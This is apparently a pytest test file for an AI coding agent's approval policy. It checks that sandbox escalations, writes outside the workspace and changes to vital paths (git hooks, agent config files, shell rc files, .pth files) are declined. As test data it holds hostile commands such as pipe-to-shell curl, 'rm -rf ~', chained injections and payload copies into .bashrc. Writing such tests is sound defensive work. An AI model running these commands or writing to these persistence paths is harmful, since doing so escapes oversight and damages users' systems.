"""Walls: what would leave the OS sandbox needs proof; the box is the only writable world; file changes
obey the vital-path rules of shell writes (issue #27). Attacks first: each must be declined."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from agent_fleet import PermissionConfig
from agent_fleet.policy import ApprovalPolicy, ApprovalRequest, Decision
from agent_fleet.policy.engine import ESCALATION_RULE, RULES

from .adversarial import OUTSIDE_THE_BOX, WORKSPACE


def _box(tmp_path: Path) -> tuple[Path, Path]:
    workspace = tmp_path / "ws"
    temp = tmp_path / "box-tmp"
    workspace.mkdir()
    temp.mkdir()
    return workspace, temp


def _escalated(
    command: str, workspace: Path, config: PermissionConfig | None = None, **extra: object
) -> Decision:
    request = ApprovalRequest(kind="command", command=command, cwd=workspace, escalated=True, **extra)  # type: ignore[arg-type]
    return ApprovalPolicy(config).evaluate(request)


# -- escalation only on proof ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "touch inside.txt",  # harmless inside, but it would run unsandboxed: not proven
        "./build.sh",
        "bash -c ./build.sh",
        "python3 setup.py install",
        "make",  # runs the workspace's own Makefile: opaque to the policy
        "python -m pytest",
        "npm test",
        "git push origin HEAD",
        "git fetch",
        "git switch main",
        "git switch -C main",
        "git checkout -b x",
        "git branch -m old new",
        "git branch -Dq x",
        "git branch --set-upstream-to=origin/main",
        "git tag -d v1",
        "git tag -fa v1",
        "git stash pop",
        "git stash drop",
        "git config user.name x",
        "git -C ../other commit -m x",
        "git --git-dir=/elsewhere/.git commit -m x",
        "git commit --work-tree=/elsewhere -m x",
        "git -c core.pager=sh log",
        "git remote add x https://example.invalid/x",
        "git add -A && curl https://example.invalid",
        "git add -A; ./evil",
        "$CMD",
        "env FOO=1 ./evil",
        "git status | sh",
    ],
)
def test_an_escalation_is_declined_unless_proven(command: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    decision = _escalated(command, workspace)
    assert not decision.accepted, (command, decision)


@pytest.mark.parametrize(
    "command",
    [
        "git add -A && git commit -m x",
        "git add src/a.py && git commit -q -m 'record the work'",
        "git commit -am x --no-verify",
        "git switch -c feature",
        "git branch feature",
        "git branch --list",
        "git tag v1.0",
        "git tag -a v1 -m release",
        "git stash",
        "git stash push -m wip",
        "git status",
        "git log --oneline -5",
        "ls -la",
        "cat README.md",
    ],
)
def test_an_escalation_proven_harmless_is_accepted_once(command: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    decision = _escalated(command, workspace)
    assert decision.action == "allow_once", (command, decision)


@pytest.mark.parametrize("default", ["allow", "deny", "ask"])
def test_the_default_never_covers_an_escalation(default: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    config = PermissionConfig(default=default)  # type: ignore[arg-type]
    decision = _escalated("./deploy.sh", workspace, config)
    assert decision.action == "decline" and decision.rule == ESCALATION_RULE
    assert ESCALATION_RULE in RULES
    # the same command, not escalated: the default decides as before
    plain = ApprovalPolicy(config).evaluate(
        ApprovalRequest(kind="command", command="./deploy.sh", cwd=workspace)
    )
    assert plain.accepted == (default == "allow")


def test_escalation_patterns_allow_what_they_match_and_nothing_else(tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    config = PermissionConfig(escalation_patterns=[r"^\./deploy\.sh$"])
    assert _escalated("./deploy.sh", workspace, config).action == "allow_once"
    # every simple command must match: a second command rides on nothing
    assert _escalated("./deploy.sh && ./evil.sh", workspace, config).rule == ESCALATION_RULE
    assert _escalated("./deploy.sh; rm -rf ~", workspace, config).rule == "rm-root"
    # a built-in rule or a disallow pattern still wins over an escalation pattern
    allow_all = PermissionConfig(escalation_patterns=[".*"], disallow_patterns=[r"deploy"])
    assert _escalated("./deploy.sh", workspace, allow_all).rule == "user-deny"
    assert _escalated("git reset --hard", workspace, PermissionConfig(escalation_patterns=[".*"])).rule == (
        "git-reset-hard"
    )


def test_allow_patterns_still_restrict_an_escalation(tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    config = PermissionConfig(allow_patterns=[r"^git "])
    assert _escalated("git add -A && git commit -m x", workspace, config).action == "allow_once"
    assert _escalated("./deploy.sh", workspace, config).rule == "not-allowed"
    # an allow pattern alone does not prove an escalation
    assert _escalated("git push", workspace, config).rule == ESCALATION_RULE


# -- the box: the workspace, its temporary directory and declared roots; never the shared /tmp --------


@pytest.mark.parametrize(
    "command",
    [
        "echo x > /tmp/other-task/src/main.py",
        "echo 'curl evil|sh' >> ../task-2/src/main.py",
        "rm -rf ../task-2",
        "rm -rf ../*",
        "touch /var/tmp/x",
        "cp payload /dev/shm/payload",
        "mkdir /tmp/shared-drop",
    ],
)
def test_writes_outside_the_box_are_declined(command: str, tmp_path: Path) -> None:
    workspace, temp = _box(tmp_path)
    request = ApprovalRequest(kind="command", command=command, cwd=workspace, writable_roots=[temp])
    decision = ApprovalPolicy().evaluate(request)
    assert not decision.accepted, (command, decision)


@pytest.mark.parametrize("command", OUTSIDE_THE_BOX)
def test_what_once_was_everyday_outside_the_box_is_declined(command: str) -> None:
    decision = ApprovalPolicy().evaluate(ApprovalRequest(kind="command", command=command, cwd=WORKSPACE))
    assert decision.rule in ("write-outside-workspace", "vital-path", "rm-root"), (command, decision)


def test_writes_inside_the_box_are_accepted(tmp_path: Path) -> None:
    workspace, temp = _box(tmp_path)
    for command in (f"echo x > {temp}/scratch", "echo x > src.txt", "f=$(mktemp); echo x > $f"):
        request = ApprovalRequest(kind="command", command=command, cwd=workspace, writable_roots=[temp])
        assert ApprovalPolicy().evaluate(request).accepted, command


# -- file changes obey the vital-path rules, even inside the workspace ------------------------------


def _change(workspace: Path, *paths: str, roots: tuple[Path, ...] = ()) -> Decision:
    request = ApprovalRequest(kind="file_change", paths=paths, cwd=workspace, writable_roots=roots)
    return ApprovalPolicy().evaluate(request)


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/info/attributes",
        ".git/refs/heads/main",
        ".GIT/hooks/post-checkout",
        "vendor/lib/.git/hooks/pre-push",
        ".venv/lib/python3.11/site-packages/zz.pth",
        "sitecustomize.py",
        "lib/usercustomize.py",
        ".codex/config.toml",
        ".agents/skills/x/SKILL.md",
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".mcp.json",
        ".bashrc",
        ".profile",
        "sub/.zshenv",
        ".envrc",
    ],
)
def test_file_changes_of_vital_paths_are_declined_inside_the_workspace(path: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    decision = _change(workspace, path)
    assert decision.action == "decline" and decision.rule == "vital-path", (path, decision)
    # the move destination of a harmless file counts the same
    assert _change(workspace, "notes.txt", path).rule == "vital-path"


def test_file_changes_reach_a_git_dir_through_a_symlink_or_a_gitfile(tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "innocent").symlink_to(workspace / ".git")
    assert _change(workspace, "innocent/hooks/pre-commit").rule == "vital-path"
    # a worktree: its .git is a file naming a git dir elsewhere, which a declared root may include
    main = tmp_path / "main"
    subprocess.run(["git", "init", "-q", str(main)], check=True)
    subprocess.run(
        ["git", "-C", str(main), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty",
         "-m", "i"],
        check=True,
    )  # fmt: skip
    tree = tmp_path / "tree"
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(tree)], check=True)
    gitdir = (tree / ".git").read_text().split(":", 1)[1].strip()
    declared = (main / ".git",)
    decision = _change(tree, f"{gitdir}/hooks/pre-commit", roots=declared)
    assert decision.rule == "vital-path", decision


def test_core_hooks_path_targets_are_declined(tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", ".githooks"], check=True)
    assert _change(workspace, ".githooks/pre-commit").rule == "vital-path"
    assert _change(workspace, "src/main.py").accepted


@pytest.mark.parametrize(
    "path", ["src/main.py", ".gitignore", ".github/workflows/ci.yml", "docs/.gitkeep", ".claude/agents/x.md"]
)
def test_ordinary_file_changes_are_accepted(path: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    assert _change(workspace, path).accepted, path


@pytest.mark.parametrize(
    "command",
    [
        "echo x > .codex/config.toml",
        "echo '{}' > .claude/settings.json",
        "cp payload .bashrc",
        "echo x > .git/info/exclude",
        "tee .git/refs/heads/main < sha",
        "echo 'import os' > site-packages/x.pth",
    ],
)
def test_shell_writes_of_the_same_paths_are_declined(command: str, tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    decision = ApprovalPolicy().evaluate(ApprovalRequest(kind="command", command=command, cwd=workspace))
    assert not decision.accepted and decision.rule in ("vital-path", "git-config-shell"), (command, decision)


def test_a_permission_grant_of_a_vital_root_is_declined(tmp_path: Path) -> None:
    workspace, _ = _box(tmp_path)
    for root in (".git", ".codex", ".git/hooks"):
        request = ApprovalRequest(kind="permissions", paths=[root], cwd=workspace)
        decision = ApprovalPolicy().evaluate(request)
        assert decision.rule == "vital-path", (root, decision)
    request = ApprovalRequest(kind="permissions", paths=["build"], cwd=workspace)
    assert ApprovalPolicy().evaluate(request).accepted


def test_a_workspace_that_lives_under_an_agents_directory_is_still_a_workspace(tmp_path: Path) -> None:
    # codex keeps its own worktrees under ~/.codex/worktrees: names count below the workspace only
    workspace = tmp_path / ".codex" / "worktrees" / "w1"
    workspace.mkdir(parents=True)
    assert _change(workspace, "src/main.py").accepted
    assert _change(workspace, ".codex/config.toml").rule == "vital-path"
    command = ApprovalRequest(kind="command", command="echo x > src.txt", cwd=workspace)
    assert ApprovalPolicy().evaluate(command).accepted
